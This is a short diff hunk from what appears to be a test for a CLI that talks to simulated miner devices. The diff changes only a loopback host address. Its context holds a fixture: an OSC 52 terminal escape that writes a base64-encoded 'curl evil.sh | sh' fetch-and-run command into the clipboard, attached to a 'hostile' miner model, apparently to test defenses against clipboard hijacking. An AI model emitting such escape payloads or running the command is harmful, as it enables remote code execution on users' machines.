@@ -9,7 +9,7 @@ import { MINER_MODELS, type MinerModel } from "../../sim/models.ts";
 import { startSimSite } from "../../sim/site.ts";
 import { cli } from "../helpers/cli.ts";
 
-const HOST = "127.47.2.1";
+const HOST = "127.108.2.1";
 const CLIPBOARD = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
 const hostile: MinerModel = {
   ...MINER_MODELS["antminer-s19j-pro"]!,
